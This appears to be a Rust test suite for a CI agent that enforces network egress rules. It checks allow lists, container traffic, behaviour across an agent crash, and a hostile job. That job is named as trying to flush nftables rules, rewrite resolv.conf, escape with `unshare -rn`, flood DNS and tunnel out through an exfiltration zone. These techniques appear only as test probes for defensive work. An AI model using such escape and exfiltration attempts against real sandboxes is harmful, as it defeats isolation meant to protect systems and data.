    let listed: Vec<&str> = allow
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    // What the job reached by name; the proposal may name each or a wildcard over it.
    for name in [
        standin::PUBLIC_NAME,
        standin::DENIED_NAME,
        standin::DIRECT_NAME,
        WILDCARD_NAME,
    ] {
        if !listed.iter().any(|entry| covers(entry, name)) {
            findings.push(format!("the proposal does not cover {name}: {listed:?}"));
        }
    }
    // Never the zone the job tunnelled through, by name or by a wildcard over it.
    let channel = format!("anything.{}", standin::EXFIL_ZONE);
    if let Some(entry) = listed.iter().find(|entry| covers(entry, &channel)) {
        findings.push(format!(
            "the proposal allows the zone the job tunnelled through ({entry}): {listed:?}"
        ));
    }
    // The text: the list as one TOML line (comments around it allowed).
    let text = fleet
        .setup
        .run(&["egress", "--policy", "egress", "--since", "1d"]);
    let printed = String::from_utf8_lossy(&text.stdout).into_owned();
    eprintln!("rm-agent egress --policy egress --since 1d:\n{printed}");
    let lines: Vec<&str> = printed
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    if !text.status.success() || lines.len() != 1 || !lines[0].starts_with("allow = [") {
        findings.push(format!(
            "egress --policy does not print one `allow = [...]` line: {text:?}"
        ));
    }

    // Enforced: the same job, without the probes no list of names permits, passes.
    assert!(
        !listed.is_empty(),
        "no allow list proposed ({proposal}); so far:\n{}",
        findings.join("\n")
    );
    drop(agent);
    opts.policies = vec![policy(
        "egress",
        EGRESS,
        egress_lines(&allow.to_string(), "enforce"),
    )];
    fleet.configure(&opts);
    let _agent = egress.start_agent().await;
    egress.probes("names");
    let (job, attempt) = egress.run("enforced", EGRESS).await;
    let enforced = egress.report(&attempt);
    let passes: Vec<&str> = REACHES
        .iter()
        .copied()
        .filter(|p| !["direct_before_dns", "other_resolver", "other_resolver_tcp"].contains(p))
        .collect();
    expect(
        &enforced,
        &passes,
        "ok",
        "enforce with the proposal",
        &mut findings,
    );
    let record = egress.record(job);
    if record["mode"] != "enforce" {
        findings.push(format!("mode of the second run: {}", record["mode"]));
    }
    for name in [standin::PUBLIC_NAME, standin::DENIED_NAME, WILDCARD_NAME] {
        let got = name_verdict(&record, name);
        if got.as_deref() != Some("allowed") {
            findings.push(format!(
                "enforce with the proposal: {name} is {got:?}, not allowed"
            ));
        }
    }
    if address_verdicts(&record, standin.forbidden)
        .iter()
        .any(|v| v != "allowed")
    {
        findings.push(format!(
            "enforce with the proposal: the forbidden address was refused: {}",
            record["addresses"]
        ));
    }
    assert!(
        findings.is_empty(),
        "egress audit:\n{}",
        findings.join("\n")
    );
}

/// A container of the job's own Docker resolves and connects through the same rules: the
/// allowed name works, the denied name and the forbidden address fail; under a Docker policy
/// without egress (the control) both reach the forbidden server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_jobs_container_obeys_the_same_rules() {
    let test = "egress::a_jobs_container_obeys_the_same_rules";
    let _one = crate::docker::ONE_AT_A_TIME.lock().await;
    if !tools_here(test) {
        return;
    }
    let Some(docker) = crate::docker::docker_policy(test, &crate::docker::rootfs_tar()) else {
        return;
    };
    let with_egress: &'static str =
        Box::leak(format!("{}{}", docker.extra, egress_lines(ALLOW, "enforce")).into_boxed_str());
    let without: &'static str = Box::leak(docker.extra.clone().into_boxed_str());
    let egress = egress_fleet(options(vec![
        policy("egress", EGRESS, with_egress),
        policy("open", OPEN, without),
    ]))
    .await;
    let _subids = crate::docker::SubIds(crate::docker::uids_of(&egress.fleet));
    let _agent = egress.start_agent().await;
    let standin = &egress.standin;
    let mut findings = Vec::new();

    egress.probes("containers");
    let (_, attempt) = egress.run("containers", EGRESS).await;
    let report = egress.report(&attempt);
    expect(
        &report,
        &["container_allowed"],
        "ok",
        "a container under enforce",
        &mut findings,
    );
    expect(
        &report,
        &["container_denied_name", "container_forbidden"],
        "denied",
        "a container under enforce",
        &mut findings,
    );
    if standin.connections.of(&standin.forbidden.to_string()) != 0 {
        findings.push("EGRESS BREACH: a container reached the forbidden server".to_owned());
    }
    if standin.loopback_queries.of(standin::DENIED_NAME) != 0 {
        findings.push(format!(
            "a container's query for {} reached the upstream",
            standin::DENIED_NAME
        ));
    }

    let (_, open) = egress.run("containers-open", OPEN).await;
    let control = egress.report(&open);
    expect(
        &control,
        &[
            "container_allowed",
            "container_denied_name",
            "container_forbidden",
        ],
        "ok",
        "a container under the control (no egress)",
        &mut findings,
    );
    assert!(
        findings.is_empty(),
        "egress of containers:\n{}",
        findings.join("\n")
    );
}

/// A hostile job tries to change its rules (`nft`, also from a user namespace of its own), its
/// resolver (`/etc/resolv.conf`), to leave its network (`unshare -rn`), and floods the
/// resolver while another runner resolves an allowed name: each attack fails, the forbidden
/// server is never reached, the flood is rate limited and the other runner's queries are all
/// answered. Latencies are printed, never asserted. Under a policy without egress (the
/// control) the same job reaches the forbidden server and its flood is answered in full.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_job_cannot_change_its_rules_or_flood_others() {
    if !tools_here("egress::a_hostile_job_cannot_change_its_rules_or_flood_others") {
        return;
    }
    let lines = egress_lines(ALLOW, "enforce");
    let egress = egress_fleet(options(vec![
        policy("flood", FLOOD, lines),
        policy("victim", VICTIM, lines),
        policy("open", OPEN, ""),
    ]))
    .await;
    let fleet = &egress.fleet;
    let standin = &egress.standin;
    let reports = &egress.reports;
    let _agent = egress.start_agent().await;
    let mut findings = Vec::new();

    egress.probes("hostile");
    let before = egress.attempt_ids();
    let flood_job = fleet.fake.queue_job(REPO, "flood", FLOOD).unwrap();
    wait_until(Duration::from_secs(120), "the hostile job flooding", || {
        reports.join("flooding").exists()
    })
    .await;
    egress.probes("victim");
    let victim_job = fleet.fake.queue_job(REPO, "victim", VICTIM).unwrap();
    wait_until(
        Duration::from_secs(240),
        "the hostile and the victim job done, every attempt cleaned",
        || fleet.completed(flood_job) && fleet.completed(victim_job) && fleet.all_cleaned(),
    )
    .await;
    let of_policy = |policy: &str| {
        let mut of: Vec<AttemptRecord> = fleet
            .attempts()
            .into_iter()
            .filter(|a| !before.contains(&a.attempt_id) && a.policy == policy)
            .collect();
        assert_eq!(of.len(), 1, "one runner of policy {policy}: {of:?}");
        of.remove(0)
    };
    let flooder = of_policy("flood");
    let victim = of_policy("victim");
    let hostile = egress.report(&flooder);
    let attacks = [
        "nft_flush",
        "nft_flush_userns",
        "nft_add",
        "resolv_conf",
        "unshare_forbidden",
        "forbidden_after",
        "denied_after",
    ];
    expect(
        &hostile,
        &attacks,
        "denied",
        "the hostile job",
        &mut findings,
    );
    if standin.connections.of(&standin.forbidden.to_string()) != 0 {
        findings.push("EGRESS BREACH: the hostile job reached the forbidden server".to_owned());
    }
    let flood = summary(&hostile, "flood");
    let victim_report = egress.report(&victim);
    let answered = summary(&victim_report, "victim");
    eprintln!(
        "DNS latency through the agent's resolver: the flooder p50 {} ms p99 {} ms ({} sent, {} \
         answered, {} refused); the victim p50 {} ms p99 {} ms ({} answered of {VICTIM_QUERIES})",
        shown(&flood, "p50_ms"),
        shown(&flood, "p99_ms"),
        shown(&flood, "sent"),
        shown(&flood, "answered"),
        shown(&flood, "refused"),
        shown(&answered, "p50_ms"),
        shown(&answered, "p99_ms"),
        shown(&answered, "answered"),
    );
    if count(&flood, "sent").is_none_or(|n| n < u64::from(FLOOD_QUERIES)) {
        findings.push(format!("the flood sent too few queries: {flood:?}"));
    }
    if count(&answered, "noerror") != Some(u64::from(VICTIM_QUERIES))
        || count(&answered, "refused") != Some(0)
        || count(&answered, "timeouts") != Some(0)
    {
        findings.push(format!(
            "the victim's queries were not all answered during the flood: {answered:?}"
        ));
    }
    let record = egress.record(flood_job);
    if record["rate_limited"].as_u64().unwrap_or(0) == 0 {
        findings.push(format!(
            "the flooder's record shows no rate limiting: {}",
            record["rate_limited"]
        ));
    }
    if count(&flood, "refused").is_none_or(|n| n == 0) {
        findings.push(format!("the flood was never refused: {flood:?}"));
    }

    // The control: the same job under a policy without egress (the victim is done: it floods
    // its 3000 and stops).
    egress.probes("hostile");
    let (_, open) = egress.run("flood-open", OPEN).await;
    let control = egress.report(&open);
    expect(
        &control,
        &["forbidden_after", "denied_after"],
        "ok",
        "the control (no egress)",
        &mut findings,
    );
    let open_flood = summary(&control, "flood");
    if count(&open_flood, "refused") != Some(0)
        || count(&open_flood, "answered").is_none_or(|n| n == 0)
    {
        findings.push(format!(
            "the control's flood was refused or unanswered without egress: {open_flood:?}"
        ));
    }
    let left = nothing_left(fleet).await;
    if !left.is_empty() {
        findings.push(format!("left in the kernel: {left:?}"));
    }
    assert!(
        findings.is_empty(),
        "a hostile job:\n{}",
        findings.join("\n")
    );
}

/// Across an agent crash (SIGKILL while an egress runner runs): the runner's table keeps
/// enforcing with no agent (its DNS answered by nobody, an address opened before still open,
/// everything else refused), the next agent registers the runner again from the journal and
/// answers it, and the runner's record goes on from what was journalled before the crash.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_egress_runner_stays_enforced_across_an_agent_crash() {
    if !tools_here("egress::an_egress_runner_stays_enforced_across_an_agent_crash") {
        return;
    }
    let egress = egress_fleet(options(vec![policy(
        "egress",
        EGRESS,
        egress_lines(ALLOW, "enforce"),
    )]))
    .await;
    let fleet = &egress.fleet;
    let standin = &egress.standin;
    egress.probes("crash");
    let first = egress.start_agent().await;
    let job = fleet.fake.queue_job(REPO, "crash", EGRESS).unwrap();
    let phase = |name: &str| egress.reports.join(name);
    wait_until(Duration::from_secs(90), "the job's first probes", || {
        phase("phase1").exists()
    })
    .await;
    let attempt = fleet.attempts().pop().expect("the runner's attempt");
    // What the runner asked before the crash, journalled (flushed every 10 s).
    let journal = fleet.setup.journal();
    let kept = || {
        rm_journal::Reader::open(&journal)
            .ok()
            .and_then(|reader| reader.egress(&attempt.attempt_id).ok().flatten())
            .unwrap_or_default()
    };
    wait_until(
        Duration::from_secs(40),
        "the runner's record journalled with the name it asked",
        || kept().contains(standin::PUBLIC_NAME),
    )
    .await;
    let pid = fleet
        .attempts()
        .pop()
        .and_then(|a| a.pid)
        .expect("the runner's pid");
    first.kill();
    assert!(
        Path::new(&format!("/proc/{pid}")).exists(),
        "the runner did not survive the agent's SIGKILL"
    );
    std::fs::write(phase("go1"), "").unwrap();
    wait_until(
        Duration::from_secs(90),
        "the job's probes with no agent",
        || phase("phase2").exists(),
    )
    .await;
    // With no agent, the runner's table is still there and still refusing (read through the
    // runner's process: the agent named its namespace in a mount namespace of its own).
    let table = std::process::Command::new("nsenter")
        .args([
            &format!("--net=/proc/{pid}/ns/net"),
            "nft",
            "list",
            "table",
            "ip",
            "rm",
        ])
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&table.stdout).into_owned();
    let _second = egress.start_agent().await;
    std::fs::write(phase("go2"), "").unwrap();
    wait_until(
        Duration::from_secs(120),
        "the job done and its attempt cleaned",
        || fleet.completed(job) && fleet.all_cleaned(),
    )
    .await;

    let mut findings = Vec::new();
    if !table.status.success() || !listed.contains("set allowed") {
        findings.push(format!(
            "the runner's table while no agent ran: {:?} {listed}",
            table.status
        ));
    }
    let attempt = fleet
        .attempts()
        .into_iter()
        .find(|a| a.attempt_id == attempt.attempt_id)
        .unwrap();
    let report = egress.report(&attempt);
    expect(
        &report,
        &["before_resolves", "before_connects", "down_opened"],
        "ok",
        "around the crash",
        &mut findings,
    );
    expect(
        &report,
        &["down_resolves", "down_forbidden", "down_direct"],
        "denied",
        "with no agent",
        &mut findings,
    );
    expect(
        &report,
        &["after_resolves", "after_connects"],
        "ok",
        "under the next agent",
        &mut findings,
    );
    expect(
        &report,
        &["after_denied", "after_forbidden"],
        "denied",
        "under the next agent",
        &mut findings,
    );
    if standin.connections.of(&standin.forbidden.to_string()) != 0 {
        findings.push("the forbidden server was reached".to_owned());
    }
    // The record goes on across the crash: the name asked before it, the ones asked after.
    let records = records_in(&fleet.explain(job));
    match records.as_slice() {
        [record] => {
            for (name, want) in [
                (standin::PUBLIC_NAME, "allowed"),
                (standin::DIRECT_NAME, "allowed"),
                (standin::DENIED_NAME, "denied"),
            ] {
                if name_verdict(record, name).as_deref() != Some(want) {
                    findings.push(format!("record: {name} is not {want}: {record}"));
                }
            }
            if !address_verdicts(record, standin.forbidden).contains(&"denied".to_owned()) {
                findings.push(format!(
                    "record: the forbidden address is not denied: {record}"
                ));
            }
        }
        other => findings.push(format!("not one egress record: {other:?}")),
    }
    let left = nothing_left(fleet).await;
    if !left.is_empty() {
        findings.push(format!("left in the kernel: {left:?}"));
    }
    assert!(
        findings.is_empty(),
        "egress across an agent crash:\n{}",
        findings.join("\n")
    );
}
